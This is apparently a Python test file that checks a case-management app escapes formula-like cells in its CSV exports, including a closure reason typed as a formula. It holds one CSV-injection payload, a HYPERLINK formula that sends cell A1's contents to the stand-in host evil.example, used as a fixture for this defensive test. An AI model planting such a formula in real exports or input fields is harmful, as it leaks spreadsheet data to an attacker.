"""Exports: text a user typed cannot become a spreadsheet formula on a partner's machine."""

from __future__ import annotations

import csv
import io

from tests.cases.builders import NOW, make_case
from tests.factories import make_user
from tip_cases.cases import services as svc
from tip_cases.extensions import db
from tip_cases.reports.exports import _cell, records_csv

PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"Details")'


def test_cells_that_would_be_formulas_are_quoted_and_others_untouched():
    assert _cell(PAYLOAD) == "'" + PAYLOAD
    for bad in ("+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"):
        assert _cell(bad).startswith("'")
    for fine in ("Maseru Bridge", "2026-11-20", 0, -3, None, ""):
        assert _cell(fine) == fine
    text = records_csv([{"place": PAYLOAD, "n": 12}], ["place", "n"])
    assert list(csv.reader(io.StringIO(text)))[1] == ["'" + PAYLOAD, "12"]


def test_a_closure_reason_typed_as_a_formula_is_exported_as_text(app, client, login_as):
    owner = make_user("investigator")
    case = make_case(owner, now=NOW)
    req = svc.request_closure(case, owner, target_status="Closed", reason=PAYLOAD, now=NOW)
    db.session.commit()
    svc.decide_closure(req, make_user("manager"), approve=True, comment="ok", now=NOW)
    db.session.commit()
    manager = login_as("manager")
    resp = manager.submit("/reports/export/cases", {"purpose": "Migration of records to the regional system",
                                                    "start": "2026-11-01", "end": "2026-11-30", "format": "csv"})
    rows = list(csv.DictReader(io.StringIO(resp.get_data(as_text=True))))
    assert rows and rows[0]["cas_ReasonForCaseClosure"] == "'" + PAYLOAD
